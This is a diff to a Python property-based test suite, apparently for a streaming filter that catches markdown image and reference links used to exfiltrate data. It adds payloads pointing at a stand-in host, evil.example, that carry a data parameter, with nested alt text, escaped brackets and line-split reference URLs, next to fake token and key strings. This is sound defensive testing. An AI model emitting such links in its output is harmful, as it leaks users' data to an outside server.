@@ -34,6 +34,8 @@ LONG_CONSTRUCTS = {
         f"[s]: https://evil.example/t.png?u=alice-smith\n\n{FILLER}\n\nSummary ![status][s]\n"
     ),
     "ref-definition-with-data": f"{FILLER}\n\n[r]: https://evil.example/x?d={DATA}\n",
+    "image-nested-alt": f"Look: ![{ALT} [fig. 1]](https://evil.example/p.png?d={DATA}) ok.",
+    "ref-definition-url-next-line": f"{FILLER}\n\n[r]:\n  https://evil.example/x?d={DATA}\n",
 }
 
 
@@ -150,6 +152,7 @@ SAFE = st.sampled_from(
         "See [the docs](https://docs.python.org/3/) for more. ",
         f"[{ALT}](https://docs.python.org/3/library/re.html)\n",
         "![ok][ok]\n",
+        "![a [nested] alt](https://docs.python.org/3/logo.png) ",
         FILLER,
     ]
 )
@@ -161,6 +164,9 @@ UNSAFE = st.sampled_from(
         "![status][s]",
         "\n[s]: https://evil.example/t.png?u=alice-smith\n",
         f"\n[r]: https://evil.example/x?d={DATA}\n",
+        f"![{ALT} [nested]](https://evil.example/p.png?d={DATA})",
+        f"![escaped \\] bracket](https://evil.example/p.png?d={DATA})",
+        f"\n[q]:\n  https://evil.example/x?d={DATA}\n",
         CANARY,
         "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ",
         "AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ",
@@ -227,3 +233,13 @@ def test_decoy_references_cannot_push_a_real_pair_out(decoys_first: str) -> None
         released, violations = stream(compiled, chunked(text, size))
         assert violations, size
         assert "evil.example" not in released
+
+
+def test_a_partly_streamed_destination_is_not_judged_by_its_partial_host() -> None:
+    # "https://docs.python.o" is not an allowed host; the open "](url" is held until it ends.
+    compiled = policy(window_tokens=4)
+    text = "Logo: ![a [nested] alt](https://docs.python.org/3/logo.png) and more prose. " * 3
+    for size in (1, 3, 7):
+        released, violations = stream(compiled, chunked(text, size))
+        assert violations == [], size
+        assert released == text
